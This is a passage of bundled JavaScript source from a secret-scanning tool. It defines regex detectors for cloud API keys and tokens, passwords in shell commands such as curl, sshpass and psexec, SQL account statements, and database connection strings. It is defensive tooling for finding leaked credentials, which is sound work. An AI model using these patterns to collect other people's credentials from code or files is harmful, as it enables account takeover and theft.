    for (let at = text.indexOf(literal); at >= 0; at = text.indexOf(literal, at + 1))
        found.push(at);
    return found;
}

;// CONCATENATED MODULE: ./lib/credentials/pack/pattern.js






/**
 * A token that is told by its form alone. Its literal beginning is the anchor, unless others are given.
 * @param source of a regular expression in which every repetition is bounded and cannot meet itself
 */
function token(kind, source, ...anchors) {
    // Made when it is first asked for, here and below: a text needs a few of hundreds, and what a snapshot holds is read at each start.
    const expression = (0,once/* once */.O)(() => new RegExp(`(?<![A-Za-z0-9_])(?:${source})(?![A-Za-z0-9_])`, 'dg'));
    const starts = anchors.length > 0 ? anchors : [literalStart(source).toLowerCase()];
    const pattern = { kind, anchors: starts, find: (text) => matches(text, expression()) };
    return oneRun.test(source) ? within(shortestMatch(source), pattern) : pattern;
}
/** Source of an expression that matches nothing but letters, digits, `_` and `-`. */
const oneRun = /^(?:[\w|)?-]|\\[dw]|\(\?[:=]|\{[\d,]+\}|\[(?:\\[dw]|[\w-])+\])*$/;
/** Only where one of its anchors stands in a run of so many letters, digits, `_` and `-`. */
const within = (length, pattern) => ({ ...pattern, mayFind: (text) => inRun(text, pattern.anchors, length) });
/** For anchors that are everywhere: only in a text that holds one of these, too, in whatever case. In lower case. */
const needing = (literals, pattern) => ({
    ...pattern,
    mayFind: (text) => literals.some((literal) => text.lower.includes(literal)) && pattern.mayFind?.(text) !== false,
});
/** For anchors that are everywhere: only where so many letters, digits, `_` and `-` follow one of these literals directly. */
const behind = (literals, length, pattern) => ({
    ...pattern,
    mayFind: (text) => runBehind(text, literals, length),
});
/**
 * A token behind certain text, which costs less than to look back from wherever a token may begin.
 * @param before source of a regular expression without groups of its own
 */
function tokenAfter(kind, before, source, ...anchors) {
    const expression = (0,once/* once */.O)(() => new RegExp(`${before}(${source})(?![A-Za-z0-9_])`, 'dg'));
    return { kind, anchors, find: (text) => matches(text, expression()) };
}
/** A token whose form has a run of one character in it (bytes of zero, encoded): no sign of a placeholder there. */
function tokenWithRun(kind, source, run, ...anchors) {
    const expression = (0,once/* once */.O)(() => new RegExp(`(?<![A-Za-z0-9_])(?:${source})(?![A-Za-z0-9_])`, 'dg'));
    return { kind, anchors, find: (text) => matches(text, expression(), undefined, (found) => found.replace(run, '')) };
}
function literalStart(source) {
    const literal = /^(?:[\w~/@: -]|\\[.$|+])+/.exec(source)?.[0] ?? '';
    // The last letter belongs to a quantifier behind it.
    return (/^[?*{]/.test(source.slice(literal.length)) ? literal.slice(0, -1) : literal).replaceAll('\\', '');
}
/** A list of files with their hashes has names, too. */
const notFileName = '(?<!\\.(?:[cm]?[jt]sx?|json|md|ya?ml|py|go|sh|txt|html?|rb|java|css|toml|lock|map|svg|png))';
/** What may stand between a name and its value on one line: `NAME=value`, `"name": "value"`, `name("value")`, `<name>value</name>`. */
const between = `${notFileName}["'\`\\])]{0,2}\\s{0,4}(?:=>|:=|={1,2}|[:,(>])\\s{0,4}(?:[a-z]?["'\`]|\\\\")?(?:(?:bearer|basic|token|ssws)\\s)?`;
/**
 * A token that looks like any other, and is told by a name before it on the same line.
 * @param names source of a regular expression, read without regard to case
 * @param value source of a regular expression that matches no white space
 * @param anchors by default the names, if they are literals with `|` between them
 */
function named(kind, names, value, ...anchors) {
    const expression = (0,once/* once */.O)(() => new RegExp(`(?:${names})[\\w .-]{0,40}?${between}(${value})(?![\\w-])`, 'dgi'));
    // The flag that lets names be written in any case lets the value be, too.
    const exact = (0,once/* once */.O)(() => new RegExp(`^(?:${value})$`));
    const find = (text) => matches(text, expression(), (found) => exact().test(found));
    const starts = anchors.length > 0 ? anchors : names.split('|');
    const shortest = shortestMatch(value);
    const whole = (0,once/* once */.O)(() => new RegExp(`(?:${value})(?![\\w-])`, 'y'));
    return { kind, anchors: starts, mayFind: (text) => valueBeside(text, starts, shortest, whole), find };
}
/** For a name or a value that has other characters than those by which a survey tells where a value stands beside a name. */
const unsurveyed = ({ mayFind, ...pattern }) => pattern;
/** For names that are common in other places: one more word must say that a credential follows. */
const secretOf = (names) => `(?:${names})[\\w .-]{0,20}?(?:token|key|secret|pass|pat|auth|login|credential|api|jwt)`;
/** For forms that words, names of types and hashes can have: only with a capital, a small letter and a digit, and no words written as one. */
const mixed = (pattern) => ({
    ...pattern,
    *find(text) {
        for (const span of pattern.find(text))
            if (isMixed(text.slice(span.start, span.end)))
                yield span;
    },
});
/** For what is a text in base64, where a word beside the same name is a variable. */
const encoded = (pattern) => ({
    ...pattern,
    *find(text) {
        for (const span of pattern.find(text))
            if (/^[\x20-\x7e]+$/.test((0,base64/* decode */.D4)(text.slice(span.start, span.end))))
                yield span;
    },
});
const isMixed = (value) => /[a-z]/.test(value) && /[A-Z]/.test(value) && /\d/.test(value) && !(0,credentials_value/* isIdentifier */._5)(value);
/** Spans of the first group, or of the whole match where there is none. `random` gives the part that is drawn at random. */
function* matches(text, expression, accept = () => true, random = (found) => found) {
    for (const match of text.matchAll(expression)) {
        const [start, end] = match.indices?.[1] ?? [match.index, match.index + match[0].length];
        const found = text.slice(start, end);
        if (accept(found) && !(0,placeholder/* isPlaceholderToken */.Bt)(random(found)))
            yield { start, end };
    }
}

;// CONCATENATED MODULE: ./lib/credentials/pack/clouds.js

/** Clouds and hosts. Sources: the providers' pages on access keys and token formats. */
const clouds = [
    {
        name: 'aws',
        patterns: [
            token('aws-access-key-id', 'A(?:BIA|CCA|KIA|SIA)[A-Z2-7]{16}', 'abia', 'acca', 'akia', 'asia'),
            mixed(named('aws-secret-access-key', 'aws|secret[_. -]?access[_. -]?key', '[A-Za-z0-9/+]{40}', 'aws', 'secret')),
            token('aws-session-token', '(?:F[wQ]oGZXIvYXdz|IQoJb3JpZ2lu)[A-Za-z0-9/+]{50,2000}={0,2}', 'ogzxivyxdz', 'iqojb3jpz2lu'),
            token('aws-mws-token', 'amzn\\.mws\\.[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}'),
            token('aws-appsync-key', 'da2-[a-z0-9]{26}'),
            token('aws-bedrock-key', 'bedrock-api-key-YmVkcm9jay5hbWF6b25hd3MuY29t[A-Za-z0-9+/=]{20,2000}'),
            token('aws-bedrock-key', 'ABSK[A-Za-z0-9+/]{100,269}={0,2}'),
        ],
    },
    {
        name: 'google',
        patterns: [
            token('google-api-key', 'AIza[\\w-]{35}(?![-\\w])'),
            token('google-oauth-secret', 'GOCSPX-[\\w-]{28}'),
            mixed(named('google-oauth-secret', 'client[_. -]?secret', '[\\w-]{24}', 'client')),
            token('google-access-token', 'ya29\\.[\\w-]{20,500}'),
            mixed(token('google-refresh-token', '1//0[\\w-]{38,200}')),
            token('firebase-server-key', 'AAAA[\\w-]{7}:[\\w-]{140}'),
            token('google-chat-webhook', 'chat\\.googleapis\\.com/v1/spaces/[\\w-]{1,40}/messages\\?key=[\\w-]{1,60}&token=[\\w%-]{20,100}', 'chat.googleapis.com/v1/spaces/'),
        ],
    },
    {
        name: 'azure',
        patterns: [
            token('azure-client-secret', '(?<![~.-])[\\w~.-]{3}\\dQ~[\\w~.-]{31,34}', 'q~'),
            named('azure-storage-key', 'account[_. -]?key|storage[_. -]?key|primary[_. -]?key|secondary[_. -]?key', '[A-Za-z0-9+/]{86}==', 'key'),
            named('azure-shared-access-key', 'shared[_. -]?access[_. -]?key|primary[_. -]?key|eventhub|servicebus', '[A-Za-z0-9+/]{43}=', 'key', 'eventhub', 'servicebus'),
            unsurveyed(named('azure-app-configuration-secret', 'azconfig\\.io;id=[^;\\s]{1,60};secret', '[A-Za-z0-9+/]{43}=', 'azconfig.io;')),
            needing(['?sig', '&sig', ';sig'], named('azure-shared-access-signature', '[?&;]sig', '[A-Za-z0-9%+/]{43,70}(?:%3D|=)', 'sig')),
            named('azure-devops-token', 'azure|devops|vsts|ado_|pat', '[a-z2-7]{52}'),
            token('azure-devops-token', '[A-Za-z0-9]{76}AZDO[A-Za-z0-9]{4}', 'azdo'),
            // "Identifiable keys": a fixed mark at a fixed distance from the end.
            token('azure-service-key', '[A-Za-z0-9]{52}JQQJ99[A-Za-z0-9]{26}', 'jqqj99'),
            token('azure-storage-key', '[A-Za-z0-9+/]{76}\\+(?:ASt|ABa|AMC)[A-D][A-Za-z0-9+/]{5}==', '+ast', '+aba', '+amc'),
            token('azure-cosmos-key', '[A-Za-z0-9+/]{76}ACDb[A-Za-z0-9+/]{6}==', 'acdb'),
            token('azure-api-management-key', '[A-Za-z0-9+/]{76}APIM[A-Za-z0-9+/]{6}==', 'apim'),
            token('azure-messaging-key', '[A-Za-z0-9+/]{33}\\+A(?:Sb|Eh|Rm)[A-D][A-Za-z0-9+/]{5}=', '+asb', '+aeh', '+arm'),
            token('azure-registry-password', '[A-Za-z0-9+/]{42}\\+ACR[A-D][A-Za-z0-9+/]{5}', '+acr'),
            token('azure-search-key', '[A-Za-z0-9]{42}AzSe[A-D][A-Za-z0-9]{5}', 'azse'),
            token('azure-redis-key', '[A-Za-z0-9]{33}AzCa[A-P][A-Za-z0-9]{5}=', 'azca'),
            token('azure-function-key', '[\\w-]{44}AzFu[\\w-]{5}[AQgw]==', 'azfu'),
            named('azure-service-key', 'ocp-apim-subscription-key|azure[_. -]?openai[_. -]?(?:api[_. -]?)?key|cognitive', '[a-f0-9]{32}', 'ocp-apim', 'openai', 'cognitive'),
        ],
    },
    {
        name: 'digitalocean',
        patterns: [token('digitalocean-token', 'do[opr]_v1_[a-f0-9]{64}', '_v1_'), token('digitalocean-spaces-key', 'DO00[A-Z0-9]{16}')],
    },
    {
        name: 'cloudflare',
        patterns: [
            token('cloudflare-origin-ca-key', 'v1\\.0-[a-f0-9]{24}-[a-f0-9]{146}'),
            named('cloudflare-api-key', 'cloudflare|cf_api|x-auth-key', '[a-f0-9]{37}', 'cloudflare', 'cf_api', 'x-auth-key'),
            mixed(named('cloudflare-token', 'cloudflare|cf_api[_. -]?token', '[\\w-]{40}', 'cloudflare', 'cf_api')),
        ],
    },
    {
        name: 'heroku',
        patterns: [
            token('heroku-token', 'HRKU-[\\w-]{36,70}'),
            named('heroku-token', 'heroku', '[0-9a-fA-F]{8}-(?:[0-9a-fA-F]{4}-){3}[0-9a-fA-F]{12}', 'heroku'),
        ],
    },
    {
        name: 'fly',
        patterns: [token('fly-token', 'fo1_[\\w-]{43}'), token('fly-token', 'fm[12][ar]?_[A-Za-z0-9+/]{100,2000}={0,3}', 'fm1', 'fm2')],
    },
    { name: 'linode', patterns: [named('linode-token', 'linode', '[a-f0-9]{64}', 'linode')] },
    { name: 'vultr', patterns: [named('vultr-key', 'vultr', '[A-Z0-9]{36}')] },
    { name: 'hetzner', patterns: [named('hetzner-token', 'hetzner|hcloud', '[A-Za-z0-9]{64}', 'hetzner', 'hcloud')] },
    {
        name: 'scaleway',
        patterns: [named('scaleway-secret-key', 'scw[_. -]?secret|scaleway', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'scw', 'scaleway')],
    },
    {
        name: 'alibaba',
        patterns: [
            token('alibaba-access-key-id', 'LTAI[A-Za-z0-9]{12,20}'),
            mixed(named('alibaba-access-key-secret', 'alibaba|aliyun|alicloud|access[_. -]?key[_. -]?secret', '[A-Za-z0-9]{30}', 'alibaba', 'aliyun', 'alicloud', 'secret')),
        ],
    },
    { name: 'volcengine', patterns: [mixed(token('volcengine-access-key-id', 'AKLT[\\w-]{40,50}'))] },
    { name: 'aiven', patterns: [token('aiven-password', 'AVNS_[\\w-]{16,24}')] },
    { name: 'clickhouse', patterns: [mixed(token('clickhouse-cloud-secret', '4b1d[A-Za-z0-9]{38}'))] },
    { name: 'cockroach', patterns: [token('cockroach-key', 'CCDB1_[A-Za-z0-9]{22}_[A-Za-z0-9]{40}')] },
    { name: 'mongodb-atlas', patterns: [token('mongodb-atlas-secret', 'mdb_sa_sk_[\\w-]{40}')] },
    { name: 'tencent', patterns: [token('tencent-secret-id', 'AKID[A-Za-z0-9]{32}')] },
    {
        name: 'yandex',
        patterns: [
            token('yandex-api-key', 'AQVN[\\w-]{35,38}'),
            token('yandex-iam-token', 't1\\.[A-Za-z0-9_-]{20,400}={0,2}\\.[\\w-]{86}={0,2}'),
            mixed(token('yandex-secret-key', 'YC[\\w-]{38}')),
        ],
    },
    { name: 'ibm-cloud', patterns: [mixed(named('ibm-cloud-key', secretOf('ibm|bluemix|iam'), '[\\w-]{44}', 'ibm', 'bluemix', 'iam'))] },
    { name: 'exoscale', patterns: [mixed(named('exoscale-secret', 'exoscale', '[\\w-]{43}'))] },
    { name: 'netlify', patterns: [token('netlify-token', 'nfp_[A-Za-z0-9]{36}')] },
    { name: 'render', patterns: [token('render-key', 'rnd_[A-Za-z0-9]{28,40}')] },
    { name: 'fastly', patterns: [mixed(named('fastly-token', 'fastly', '[\\w-]{32}'))] },
    { name: 'cloudinary', patterns: [token('cloudinary-url', 'cloudinary://\\d{12,16}:[\\w-]{27}@')] },
    {
        name: 'supabase',
        patterns: [token('supabase-token', 'sbp_[a-f0-9]{40}'), token('supabase-secret-key', 'sb_secret_[\\w-]{31}')],
    },
    { name: 'planetscale', patterns: [token('planetscale-token', 'pscale_(?:tkn|oauth|pw|otkn)_[\\w.=-]{32,64}')] },
    { name: 'neon', patterns: [token('neon-key', 'napi_[a-z0-9]{64}')] },
    {
        name: 'vmware',
        patterns: [
            named('vmware-license', 'vmware|vsphere|vcenter|esxi?', '[A-Z0-9]{5}(?:-[A-Z0-9]{5}){4}', 'vmware', 'vsphere', 'vcenter', 'esx'),
        ],
    },
    {
        name: 'truenas',
        patterns: [mixed(token('truenas-key', '\\d{1,3}-[A-Za-z0-9]{64}', '-'))],
    },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/login.js

/** Kinds of passwords that are weak, whatever they stand in. */
const loginKinds = ['default-login', 'possible-login'];
/** The match for a password at a place, with a kind of its own if it is weak; null if it is none. */
function loginAt(span, password, user = '', host) {
    const kind = (0,placeholder/* loginKind */.k7)(password, user, host);
    if (kind === null || span === undefined)
        return null;
    return { start: span[0], end: span[1], ...(kind !== 'password' && { kind }) };
}
/** The passwords in the last group of an expression with the flag `d`, beside what is in its group `user` if it has one. */
function* logins(text, expression) {
    for (const match of text.matchAll(expression)) {
        const last = match.length - 1;
        const found = loginAt(match.indices?.[last], match[last] ?? '', match.groups?.user);
        if (found !== null)
            yield found;
    }
}

;// CONCATENATED MODULE: ./lib/credentials/pack/commands.js



/** A program that is given a password as an argument. The password is in the last group of the expression, the user in the group of that name. */
const argument = (kind, expression, ...anchors) => ({
    kind,
    anchors,
    alsoFinds: loginKinds,
    find: (text) => logins(text, expression),
});
/** Only where this is so behind one of the places of its anchors. */
const followed = (pattern, length, test) => ({
    ...pattern,
    mayFind: ({ lower }) => pattern.anchors.some((anchor) => places(lower, anchor).some((at) => test(lower.slice(at + anchor.length, at + anchor.length + length)))),
});
/** What may stand between a command and one of its options. */
const before = '\\b[^\\n|;]{0,160}?\\s';
const value = '["\']?(?!-)([^\\s"\'`;|&<>()]{3,100})';
/** An option of commands, as their manuals have it. */
function commands_option(commands, options, ...anchors) {
    const expression = new RegExp(`\\b(?:${commands})${before}${options}${value}`, 'dg');
    const pattern = argument('command-password', expression, ...(anchors.length > 0 ? anchors : commands.split('|')));
    const flag = /^-\w/.exec(options)?.[0];
    return flag === undefined ? pattern : { ...pattern, mayFind: ({ text }) => text.includes(flag) };
}
const commands = [
    needing(['password'], argument('netrc-password', /\bmachine\s{1,20}\S{1,100}\s{1,20}login\s{1,20}\S{1,100}\s{1,20}password\s{1,20}(\S{1,200})/dg, 'machine')),
    needing(['-u'], argument('curl-password', /\bcurl\b[^\n|;]{0,200}?\s(?:-u|--user|--proxy-user)[ =]?["']?(?<user>[\w.@+-]{1,80}):([^\s"']{3,100})/dg, 'curl')),
    argument('sshpass-password', /\bsshpass\s+-p\s?["']?([^\s"']{3,100})/dg, 'sshpass'),
    argument('psexec-password', /\bpsexec(?:64)?(?:\.exe)?\b[^\n]{0,120}?\s-u\s+\S{1,80}\s+-p\s+["']?([^\s"']{2,100})/dgi, 'psexec'),
    argument('net-use-password', /\bnet use\b[^\n]{0,120}?\s\/user:\S{1,80}\s+(?!\/)["']?([^\s"'/]{3,100})/dgi, 'net use'),
    needing(['-p'], argument('docker-login-password', /\b(?:docker|podman|helm registry|oras|skopeo|crane)\s+login\b[^\n|;]{0,160}?\s(?:-p|--password)[ =]["']?([^\s"'-][^\s"']{2,100})/dg, 'login')),
    needing(['-p'], argument('mysql-password', /\b(?:mysql|mysqldump|mysqladmin|mariadb)\b[^\n|;]{0,120}?\s-p(?![\s-])["']?([^\s"'`;|&<>()]{3,100})/dg, 'mysql', 'mariadb')),
    needing(['networkcredential', 'pscredential', 'usernamepasswordcredential', 'passwordauthentication'], argument('network-credential-password', /\b(?:NetworkCredential|PSCredential|UsernamePasswordCredentials?|PasswordAuthentication)\s?\(\s{0,4}["'][^"'\n]{1,80}["']\s{0,4},\s{0,10}["']([^"'\s$]{3,100})["']/dgi, 'credential', 'passwordauthentication')),
    argument('directory-entry-password', /\bDirectoryEntry\s?\(\s{0,4}["'][^"'\n]{1,120}["']\s{0,4},\s{0,20}["'][^"'\n]{1,80}["']\s{0,4},\s{0,20}["']([^"'\s$]{3,100})["']/dgi, 'directoryentry'),
    argument('powershell-password', /ConvertTo-SecureString\s+(?:-String\s+)?["']([^"'\s$]{3,100})["'][^\n]{0,60}-AsPlainText/dgi, 'securestring'),
    needing(['password'], argument('wget-password', /\bwget\b[^\n|;]{0,200}?--(?:http-|ftp-|proxy-)?password[ =]["']?([^\s"'-][^\s"']{2,100})/dg, 'wget')),
    commands_option('mysqladmin', 'password\\s+'),
    commands_option('redis-cli', '(?:-a|--pass)[ =]'),
    commands_option('smbclient|rpcclient|smbget', '-U\\s+["\']?[^\\s%"\']{1,60}%'),
    commands_option('ldapsearch|ldapadd|ldapmodify|ldapdelete|ldappasswd|ldapwhoami', '-w\\s?'),
    commands_option('rabbitmqctl', '(?:add_user|change_password|authenticate_user)\\s+\\S{1,60}\\s+'),
    commands_option('mongo|mongosh|mongodump|mongorestore|mongoexport|mongoimport|cqlsh|cf login|oc login|az login|az acr login|jf', '-p[ =]', 'mongo', 'cqlsh', ' login', 'jf'),
    commands_option('sqlcmd|osql|ipmitool|mosquitto_pub|mosquitto_sub|zip|unzip', '-P\\s?', 'sql', 'ipmitool', 'mosquitto', 'zip'),
    commands_option('openssl', '-(?:passin|passout|pass)\\s+["\']?pass:'),
    commands_option('openssl enc', '-k\\s+'),
    needing(['pass=', 'password='], commands_option('mount|mount\\.cifs', '-o\\s+["\']?(?:[^\\s,"\']{1,60},){0,8}pass(?:word)?=', 'mount')),
    commands_option('7z|7za', '-p(?=[^\\s-])', '7z'),
    commands_option('lftp', '-u\\s+["\']?[^\\s,"\']{1,60},'),
    commands_option('npm|yarn|pnpm', 'set\\s+\\S{1,120}:_(?:authToken|password|auth)[ =]', ':_auth', ':_password'),
    commands_option('nmcli', 'password\\s+'),
    commands_option('wpa_passphrase', '\\S{1,40}\\s+'),
    commands_option('snmpwalk|snmpget|snmpset', '-[AX]\\s+', 'snmp'),
    commands_option('rclone', 'obscure\\s+'),
    commands_option('mc', '(?:alias set|config host add)\\s+\\S{1,40}\\s+https?://\\S{1,120}\\s+\\S{1,60}\\s+', 'alias set', 'host add'),
    commands_option('aws', 'configure set \\S{0,60}(?:aws_secret_access_key|aws_session_token)\\s+', 'configure set'),
    commands_option('curl|http|https|wget', '[^\\n]{0,200}?[&"\'](?:password|passwd|client_secret)=', 'password=', 'passwd=', 'client_secret='),
    argument('command-password', /\bhtpasswd(?:\s{1,4}-[A-Za-z]{1,8}(?:\s{1,4}\d{1,2})?){1,5}(?<=\s-[A-Za-z]{0,8}b[^\n]{0,40})\s{1,4}(?:[^\s"'-]\S{0,100}\s{1,4})?[^\s"'-]\S{0,60}\s{1,4}["']?([^\s"'`;|&<>()-][^\s"'`;|&<>()]{2,100})["']?\s{0,4}(?:[|>;&)\n]|$)/dg, 'htpasswd'),
    argument('command-password', /\bsqlplus\s+(?:-\w{1,6}\s+){0,3}["']?(?<user>[\w$]{1,40})\/([^\s"'@/]{3,60})(?=[@\s"'])/dg, 'sqlplus'),
    argument('command-password', /\bnet user\s+(?<user>\S{1,60})\s+(?!\/)["']?([^\s"'/]{3,60})["']?\s+\/add/dgi, 'net user'),
    argument('command-password', /\becho\s+(?:-[en]{1,2}\s+)?["']?(?<user>[\w.-]{1,40}):([^\s"'`|]{3,100})["']?\s{0,4}\|\s{0,4}(?:sudo\s+)?chpasswd/dg, 'chpasswd'),
    argument('command-password', /\becho\s+(?:-[en]{1,2}\s+)?["']?([^\s"'`|]{3,200})["']?\s{0,4}\|\s{0,4}(?:sudo\s+-\w{0,4}S\b|(?:sudo\s+)?passwd\s+--stdin|[^\n|;]{0,160}?--password-stdin|kinit\b|[^\n|;]{0,80}?--passphrase-fd)/dg, 'sudo', '-stdin', 'kinit', '--passphrase-fd'),
    argument('command-password', /\b(?:xfreerdp|cmdkey|schtasks|rdesktop)\b[^\n]{0,160}?\s\/(?:p|pass|rp|password)[: ]["']?([^\s"'/]{3,100})/dgi, 'xfreerdp', 'cmdkey', 'schtasks', 'rdesktop'),
];
/** Lines of servers and installers that no name with a sign says. */
const lines = [
    argument('server-password', /^\s{0,20}rootpw\s+(?:--plaintext\s+)?(?!--)([^\s"'$]{3,100})\s*$/dgm, 'rootpw'),
    needing(['passwd/'], argument('server-password', /^d-i\s+passwd\/\S{1,40}-password\s+password\s+(\S{3,100})$/dgm, 'd-i')),
    argument('server-password', /\buser\s+(?<user>\S{1,60})\s+insecure-password\s+(\S{3,100})/dg, 'insecure-password'),
    argument('server-password', /\bstats\s+auth\s+(?<user>[^\s:]{1,60}):(\S{3,100})/dg, 'stats'),
    argument('server-password', /\bchpasswd:\s{1,12}(?:expire:\s?\w{1,8}\s{1,12})?list:\s?\|\s{1,20}(?<user>[\w-]{1,32}):(\S{3,100})/dg, 'chpasswd'),
];
/** Statements that make an account. A hash that the server made itself has a star or its scheme before it. */
const statements = [
    argument('sql-password', /\b(?:user|grant)\b[^;]{0,300}?\bidentified\s+(?:with\s+\w{1,40}\s+)?by\s+["'](?!\*[0-9A-F]{40})([^"'\s]{3,100})["']/dgi, 'identified'),
    followed(argument('sql-password', /\b(?:user|role|login)\b[^;\n]{0,120}?\spassword\s{0,4}=?\s{0,4}N?'(?!md5[0-9a-f]{32}'|SCRAM-|\*[0-9A-F]{40}')([^'\s]{3,100})'/dgi, 'password'), 11, (after) => after.includes("'") && !after.slice(0, after.indexOf("'")).includes(':')),
    followed(argument('sql-password', /\bset\s+password\b[^;\n]{0,80}?\bpassword\s?\(\s?'([^'\s]{3,100})'\s?\)/dgi, 'password'), 2, (after) => after.includes('(')),
    argument('sql-password', /\bsp_addlogin\s+N?'(?<user>[^'\n]{1,60})'\s?,\s?N?'([^'\s]{3,100})'/dgi, 'sp_addlogin'),
];
const quoted = '["\']([^"\'\\s$]{3,100})["\']';
const user = '["\'](?<user>[^"\'\\n]{1,80})["\']\\s{0,4},\\s{0,10}';
/** Functions that take a password by its place. */
const call = (names, args, ...anchors) => argument('call-password', new RegExp(`(?:${names})${args}`, 'dg'), ...anchors);
const calls = [
    needing(['basicauth', 'digestauth', 'basic_auth', 'basiccredentials', 'httpbasic', 'ftp_login', '.login', '.authenticate'], call('\\b(?:HTTPBasicAuth|HTTPDigestAuth|BasicAuth|SetBasicAuth|basicAuth|basic_auth|BasicAuthentication|BasicCredentials|withBasicAuth|httpBasic|ftp_login)|\\.(?:login|authenticate)', `\\s?\\(?\\s{0,4}(?:[\\w$]{1,40}\\s?,\\s?)?${user}${quoted}`, 'basic', 'digestauth', 'login', 'authenticate')),
    followed(call('\\bauth', `\\s?[=:]\\s?[(\\[]\\s?${user}${quoted}\\s?[)\\]]`, 'auth'), 4, (after) => (after.includes('(') || after.includes('[')) && (after.includes('=') || after.includes(':'))),
    needing(['getconnection', 'mysql_connect', 'mysqli_connect', 'new mysqli', 'new pdo', 'mysql.connect', 'mysqldb.connect', 'plainauth'], call('\\b(?:getConnection|mysqli?_connect|new mysqli|new PDO|pymysql\\.connect|MySQLdb\\.connect|PlainAuth)', `\\s?\\(\\s{0,4}(?:["'][^"'\\n]{0,200}["']|[\\w.$>-]{1,80})\\s{0,4},\\s{0,4}${user}${quoted}`, 'connect', 'mysqli', 'pdo', 'plainauth')),
    call('\\bCURLOPT_(?:PROXY)?USERPWD', `\\s?,\\s{0,4}["'](?<user>[\\w.@-]{1,60}):([^"'\\s$]{3,100})["']`, 'userpwd'),
    call('\\bjwt\\.(?:sign|verify|encode)', `\\(\\s?[\\w.{}: ]{1,80},\\s?${quoted}`, 'jwt.'),
    call('\\bAlgorithm\\.HMAC(?:256|384|512)', `\\(\\s?${quoted}`, 'algorithm.hmac'),
    call('\\bcreateHmac', `\\(\\s?["'][\\w-]{2,12}["']\\s?,\\s?${quoted}`, 'createhmac'),
    call('\\.load\\([^,\\n()]{1,80}', `,\\s{0,4}${quoted}\\.toCharArray`, 'tochararray'),
];
const commandLines = [
    { name: 'command', patterns: commands },
    { name: 'server', patterns: lines },
    { name: 'sql', patterns: statements },
    { name: 'call', patterns: calls },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/connection-strings.js



/** RFC 3986, section 3.2.1: `scheme://user:password@host`. A slash in the password must be encoded. */
const url = /\b[a-z][a-z0-9+.-]{1,24}:\/\/([^\s:@/"'`<>()[\]]{0,120}):([^\s@/"'`]{1,200})@[^\s/"'`<>:?#,;)\]]/dgi;
const inUrl = {
    kind: 'connection-string',
    anchors: ['://'],
    alsoFinds: loginKinds,
    mayFind: ({ text }) => places(text, '://').some((at) => isLogin(text.slice(at + 3, at + 330))),
    *find(text) {
        for (const match of text.matchAll(url)) {
            const [whole, user = '', password = ''] = match;
            const hostStart = match.index + whole.length - 1;
            const rest = /[\w.:/?&=%~+,-]*/y;
            rest.lastIndex = hostStart + 1;
            const end = hostStart + 1 + (rest.exec(text)?.[0].length ?? 0);
            if ((0,placeholder/* isVariable */.DZ)(user))
                continue;
            const found = loginAt(match.indices?.[2], password, user, text.slice(hostStart, end));
            // The string as a whole, as it names what the password opens; one that everybody knows stands for itself.
            if (found !== null)
                yield found.kind === undefined ? { start: match.index, end } : found;
        }
    },
};
/** Whether a user and a password stand before the first `@`. */
function isLogin(authority) {
    const login = authority.slice(0, Math.max(0, authority.indexOf('@')));
    return login.includes(':') && !['/', ' ', '\n'].some((other) => login.includes(other));
}
const passwords = ['password', 'pwd'];
/** Whether this is so before and behind a place where a password is set. */
const assigned = (lower, test) => passwords.some((word) => places(lower, word).some((at) => {
    const end = at + word.length;
    return lower.slice(end, end + 2).includes('=') && test(lower.slice(Math.max(0, at - 3), at), lower.slice(end, end + 220));
}));
/** ODBC, ADO.NET and JDBC: `name=value` with `;` between them, the password among others. */
const laterInList = {
    kind: 'connection-string',
    anchors: passwords,
    alsoFinds: loginKinds,
    mayFind: ({ lower }) => assigned(lower, (before) => before.includes(';')),
    find: (text) => logins(text, /\b(?:server|data source|host|address|addr|network address|uid|user id|user|username|database|initial catalog|driver|dsn|port|endpoint)\s?=[^;\n"']{0,120};\s{0,2}(?:password|pwd)\s?=\s?([^;\s"'<>]{1,100})/dgi),
};
const firstInList = {
    kind: 'connection-string',
    anchors: passwords,
    alsoFinds: loginKinds,
    // In lower case a letter may have two units.
    mayFind: ({ lower }) => assigned(lower, (_, after) => after.includes(';')),
    find: (text) => logins(text, /\b(?:password|pwd)\s?=\s?([^;\s"'<>]{1,100});\s{0,2}(?:server|data source|host|uid|user id|user|username|database|initial catalog|trusted_connection|encrypt|multipleactiveresultsets|connection timeout|persist security info|port)\s?=/dgi),
};
const inQuery = {
    kind: 'connection-string',
    anchors: passwords,
    alsoFinds: loginKinds,
    mayFind: ({ lower }) => lower.includes('jdbc:'),
    find: (text) => logins(text, /\bjdbc:[a-z0-9:]{2,40}:[^\s"'`<>]{1,200}?[?&;](?:password|pwd)=([^&;\s"'`<>]{1,100})/dgi),
};
/** libpq: `host=… user=… password=…` with blanks between them. */
const inConnectionInfo = {
    kind: 'connection-string',
    anchors: ['password='],
    alsoFinds: loginKinds,
    *find(text) {
        yield* logins(text, /\b(?:host|hostaddr|port|dbname|user|sslmode)=[^\s=,]{1,80}\s{1,4}(?:[a-z_]{2,20}=[^\s=,]{1,80}\s{1,4}){0,6}password=([^\s"'`<>,]{1,100})/dgi);
    },
};
/** The data source name of Go's driver for MySQL. */
const inSourceName = {
    kind: 'connection-string',
    anchors: ['@tcp(', '@unix('],
    alsoFinds: loginKinds,
    find: (text) => logins(text, /(?<![\w./-])(?<user>[\w.-]{1,60}):([^\s@"'`/:]{3,100})@(?:tcp|unix)\(/dg),
};
const connectionStrings = [
    { name: 'connection-string', patterns: [inUrl, laterInList, firstInList, inQuery, inConnectionInfo, inSourceName] },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/uuid.js
/** RFC 9562 in small letters, as the source of a regular expression. */
const uuid = '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}';

;// CONCATENATED MODULE: ./lib/credentials/pack/developer-tools.js


/** What developers build, test, publish and watch with. Sources: the providers' pages on API keys and tokens. */
const developerTools = [
    {
        name: 'authress',
        patterns: [
            token('authress-key', '(?:sc|ext|scauth|authress)_[A-Za-z0-9]{5,30}\\.[A-Za-z0-9]{4,6}\\.acc[_-][A-Za-z0-9-]{10,32}\\.[A-Za-z0-9+/_=-]{30,120}', '.acc'),
        ],
    },
    { name: 'defined-networking', patterns: [token('defined-networking-key', 'dnkey-[A-Za-z0-9=_-]{26}-[A-Za-z0-9=_-]{52}')] },
